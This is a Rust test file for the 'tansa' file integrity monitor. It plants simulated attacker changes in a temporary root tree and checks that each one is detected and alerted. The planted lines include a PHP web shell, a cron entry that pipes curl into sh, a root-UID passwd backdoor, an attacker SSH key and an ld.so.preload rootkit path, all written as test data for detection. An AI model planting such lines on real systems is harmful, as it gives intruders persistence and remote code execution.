//! File integrity monitoring from the command line: a baseline, changes in every area of the
//! default set (in a tree laid out like a system's root), alerts from detection, the baseline
//! itself guarded, the real default set of this machine scanned.

mod common;

use std::path::Path;
use std::process::Command;

fn tansa_in(data: &Path) -> Command {
    let mut c = common::tansa();
    c.arg("--data").arg(data);
    c
}

fn write(p: &Path, text: &str) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn alerts(data: &Path) -> Vec<String> {
    let out = common::succeed(tansa_in(data).args([
        "--format",
        "json",
        "sql",
        "SELECT DISTINCT rule_id FROM alerts WHERE rule_id LIKE 'tansa.fim.%' ORDER BY 1",
    ]));
    common::json_lines(&out.stdout)
        .iter()
        .map(|v| v["rule_id"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn changes_to_the_default_set_are_detected_alerted_and_kept_as_evidence() {
    let d = common::fresh_dir("fim", "areas");
    let data = d.join("data");
    let root = d.join("root");
    let files = [
        "etc/passwd",
        "etc/shadow",
        "etc/sudoers.d/admins",
        "etc/ssh/sshd_config",
        "root/.ssh/authorized_keys",
        "etc/cron.d/backup",
        "etc/systemd/system/app.service",
        "etc/ld.so.preload",
        "usr/bin/ls",
        "var/www/html/index.html",
    ];
    for f in files {
        write(&root.join(f), &format!("original {f}\n"));
    }
    let base = common::succeed(
        tansa_in(&data)
            .args(["fim", "baseline", "--web-root"])
            .arg(root.join("var/www/html"))
            .arg(root.join("etc"))
            .arg(root.join("root"))
            .arg(root.join("usr/bin")),
    );
    assert!(String::from_utf8_lossy(&base.stdout).contains("baseline of 20 files"));
    // nothing changed: exit 0, no alert
    let same = tansa_in(&data).args(["fim", "check"]).output().unwrap();
    assert_eq!(same.status.code(), Some(0));
    assert!(alerts(&data).is_empty());

    // an attacker's changes
    write(
        &root.join("etc/passwd"),
        "original etc/passwd\nevil:x:0:0::/root:/bin/bash\n",
    );
    write(
        &root.join("root/.ssh/authorized_keys"),
        "ssh-ed25519 AAAA attacker\n",
    );
    write(
        &root.join("etc/cron.d/miner"),
        "* * * * * root curl x | sh\n",
    );
    write(&root.join("usr/bin/ls"), "trojan\n");
    write(&root.join("etc/ld.so.preload"), "/lib/rootkit.so\n");
    write(
        &root.join("var/www/html/up/x.php"),
        "<?php eval($_POST[1]);\n",
    );
    std::fs::remove_file(root.join("etc/systemd/system/app.service")).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join("etc/shadow"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    let check = tansa_in(&data)
        .args(["--format", "json", "fim", "check"])
        .output()
        .unwrap();
    assert_eq!(check.status.code(), Some(1));
    let changes = common::json_lines(&check.stdout);
    let of = |p: &str| {
        changes
            .iter()
            .find(|c| c["path"].as_str().unwrap().ends_with(p))
            .unwrap_or_else(|| panic!("{p} not in {changes:?}"))["action"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(of("etc/passwd"), "file_modified");
    assert_eq!(of("etc/shadow"), "file_attributes_changed");
    assert_eq!(of("etc/cron.d/miner"), "file_created");
    assert_eq!(of("app.service"), "file_deleted");
    assert_eq!(of("up/x.php"), "file_created");
    assert_eq!(
        alerts(&data),
        [
            "tansa.fim.account_files_changed",
            "tansa.fim.loader_changed",
            "tansa.fim.scheduled_task_changed",
            "tansa.fim.ssh_keys_changed",
            "tansa.fim.system_binary_changed",
            "tansa.fim.web_shell",
        ]
    );
    // reported once: a second check lists them (exit 1) but adds no new lines
    let lines = std::fs::read_to_string(data.join("fim/changes.log"))
        .unwrap()
        .lines()
        .count();
    let again = tansa_in(&data).args(["fim", "check"]).output().unwrap();
    assert_eq!(again.status.code(), Some(1));
    assert_eq!(
        std::fs::read_to_string(data.join("fim/changes.log"))
            .unwrap()
            .lines()
            .count(),
        lines
    );

    // the baseline edited to hide a change: reported, alerted
    let b = std::fs::read_to_string(data.join("fim/baseline.json")).unwrap();
    std::fs::write(
        data.join("fim/baseline.json"),
        b.replace("\"mode\": 420", "\"mode\": 438"),
    )
    .unwrap();
    let altered = tansa_in(&data).args(["fim", "check"]).output().unwrap();
    assert!(String::from_utf8_lossy(&altered.stdout).contains("ALTERED"));
    assert!(alerts(&data).contains(&"tansa.fim.baseline_altered".to_owned()));

    // baseline and changes are in the store and in the evidence log, which verifies
    let n = common::json_lines(
        &common::succeed(tansa_in(&data).args([
            "--format",
            "json",
            "sql",
            "SELECT count(*) AS n FROM events WHERE dataset = 'fim'",
        ]))
        .stdout,
    )[0]["n"]
        .as_u64()
        .unwrap();
    let logged = ["fim/baseline.log", "fim/changes.log"]
        .iter()
        .map(|f| {
            std::fs::read_to_string(data.join(f))
                .unwrap()
                .lines()
                .count()
        })
        .sum::<usize>();
    assert_eq!(n as usize, logged);
    let v = common::succeed(tansa_in(&data).args(["--format", "json", "verify"]));
    let v: serde_json::Value = serde_json::from_slice(&v.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(v["records"].as_u64().unwrap() as usize, logged);
    let _ = std::fs::remove_dir_all(&d);
}

/// The real default set of this machine: a baseline, no false change, and (as root) a file
/// added to /etc/cron.d found.
#[test]
fn the_default_set_of_this_machine() {
    let d = common::fresh_dir("fim", "defaults");
    let data = d.join("data");
    let t = std::time::Instant::now();
    let out = common::succeed(tansa_in(&data).args([
        "--format",
        "json",
        "fim",
        "baseline",
        "--no-store",
    ]));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let files = v["files"].as_u64().unwrap();
    println!(
        "fim: default set {files} files, baseline in {:?}",
        t.elapsed()
    );
    assert!(files > 100, "{v}");
    let t = std::time::Instant::now();
    let ok = tansa_in(&data)
        .args(["fim", "check", "--no-store"])
        .output()
        .unwrap();
    println!("fim: check in {:?}", t.elapsed());
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stdout)
    );
    let probe = Path::new("/etc/cron.d").join(format!("tansa-fim-test-{}", std::process::id()));
    if std::fs::create_dir_all("/etc/cron.d").is_ok()
        && std::fs::write(&probe, "# tansa fim test\n").is_ok()
    {
        let found = tansa_in(&data)
            .args(["--format", "json", "fim", "check", "--no-store"])
            .output()
            .unwrap();
        let _ = std::fs::remove_file(&probe);
        assert_eq!(found.status.code(), Some(1));
        let changes = common::json_lines(&found.stdout);
        assert!(
            changes
                .iter()
                .any(|c| c["path"] == probe.to_string_lossy().as_ref()
                    && c["action"] == "file_created"),
            "{changes:?}"
        );
    }
    let _ = std::fs::remove_dir_all(&d);
}
